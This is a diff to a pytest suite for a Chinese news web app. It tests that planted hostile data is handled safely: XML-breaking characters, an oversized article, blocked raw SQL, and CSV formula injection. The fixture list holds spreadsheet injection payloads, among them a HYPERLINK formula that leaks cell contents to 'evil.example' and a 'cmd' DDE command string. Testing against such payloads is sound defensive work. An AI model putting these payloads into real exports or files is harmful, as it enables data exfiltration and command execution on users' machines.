@@ -32,7 +32,7 @@ import pytest
 
 from benchmarks import latency
 from benchmarks.proctree import _tree, tree_cpu_seconds
-from zhnews.excel import FormulaGuard, neutralise
+from zhnews.app.excel import FormulaGuard, neutralise
 from zhnews.search.index import MAX_QUERY_CHARS, MAX_TEXT_CHARS
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -49,8 +49,10 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+cmd|' /C c
 def _edit_by_hand(db: Path) -> dict[str, object]:
     """Attack the built database in place; returns what was planted where."""
     conn = sqlite3.connect(db)
-    latest = [r[0] for r in conn.execute("select id from articles order by published desc, id desc limit 8")]
-    xml_breaker, huge, *formula_ids = latest
+    newest_first = "select id, title from articles order by published desc, id desc limit 8"
+    latest = conn.execute(newest_first).fetchall()
+    (xml_breaker, breaker_title), (huge, huge_title), *formula_rows = latest
+    formula_ids = [article_id for article_id, _ in formula_rows]
     conn.execute("update articles set title = title || ?, lead = lead || ?, body_html = body_html || ? "
                  "where id = ?", ["\ufffe标题", "\x0b导语", "<p>正文\uffff</p>", xml_breaker])
     paragraph = "<p>" + "字" * 999 + "</p>"
@@ -69,7 +71,9 @@ def _edit_by_hand(db: Path) -> dict[str, object]:
     conn.commit()
     conn.close()
     formulas = dict(zip(formula_ids, FORMULAS, strict=True))
-    return {"xml_breaker": xml_breaker, "huge": huge, "formulas": formulas}
+    # the search index keeps the text as built: these queries still find the two articles
+    return {"xml_breaker": xml_breaker, "huge": huge, "formulas": formulas,
+            "breaker_query": breaker_title[:4], "huge_query": huge_title[:4]}
 
 
 @pytest.fixture(scope="session")
@@ -192,6 +196,7 @@ def test_public_configuration_refuses_arbitrary_sql_and_keeps_every_page(public_
     for path in (sql_path("select 1"), "/news/articles.json?_where=" + quote("id > 0")):
         assert get(public_server, path).status_code == 403, path
     for path in (f"/news/search.json?q={quote('台湾')}&_shape=array", "/news/feed.atom",
+                 f"/news/search/all.csv?q={quote('台湾')}", f"/news/search/feed.atom?q={quote('台湾')}",
                  f"/news/articles.json?_search={quote('台湾')}", "/news/articles.csv?_stream=on&_col=title",
                  "/news/articles.csvbom?_col=title", "/news/outlets", "/"):
         assert get(public_server, path).status_code == 200, path
@@ -259,7 +264,13 @@ def export_cpu_seconds(server: latency.Server, path: str) -> float:
 # ------------------------------------------------------------------------------------------- 4, 5. feed, huge
 
 @pytest.mark.slow
-def test_the_feed_drops_characters_xml_cannot_carry(server: latency.Server) -> None:
+def test_the_feeds_drop_characters_xml_cannot_carry(server: latency.Server, hostile: tuple[Path, dict]
+                                                    ) -> None:
+    searched = get(server, f"/news/search/feed.atom?q={quote(hostile[1]['breaker_query'])}")
+    assert searched.status_code == 200
+    entries = ElementTree.fromstring(searched.content).iter(f"{ATOM}entry")
+    titles = [e.find(f"{ATOM}title").text for e in entries]
+    assert any(t.endswith("标题") for t in titles) and not any("\ufffe" in t for t in titles)
     response = get(server, "/news/feed.atom")
     assert response.status_code == 200
     feed = ElementTree.fromstring(response.content)
@@ -280,8 +291,9 @@ def test_one_huge_article_costs_every_page_a_bounded_amount(server: latency.Serv
     page = get(server, f"/news/articles/{huge}")
     assert page.status_code == 200 and len(page.content) < 1_000_000
     assert "全文过长" in page.text
-    searched = get(server, f"/news/articles?_search={quote('字')}")
+    searched = get(server, f"/news/search?q={quote(hostile[1]['huge_query'])}")
     assert searched.status_code == 200 and len(searched.content) < 600_000
+    assert f"/news/articles/{huge}" in searched.text  # listed, with a snippet of a bounded head
     cards = get(server, "/news/articles")
     assert len(cards.content) < 600_000
 
@@ -378,7 +390,9 @@ def test_only_article_pages_home_and_static_files_skip_the_lanes() -> None:
     for light in ("/", "/news/articles/123", "/news/articles/123.json", "/-/static/app.css",
                   "/static/zhnews.css"):
         assert lane_of(light) is None, light
-    for heavy in ("/news/articles", "/news", "/news/search", "/news/feed.atom", "/-/search", "/search"):
+    for heavy in ("/news/articles", "/news/articles.json", "/news", "/news/search", "/news/search.json",
+                  "/news/search/feed.atom", "/news/feed.atom", "/-/search", "/search"):
         assert lane_of(heavy) == "heavy", heavy
-    for export in ("/news/articles.csv", "/news/articles.csvbom", "/news/search.csv", "/news/articles/1.csv"):
+    for export in ("/news/articles.csv", "/news/articles.csvbom", "/news/search/all.csv",
+                   "/news/search/all.csvbom", "/news/search/all.json", "/news/search/timeline.csv"):
         assert lane_of(export) == "export", export
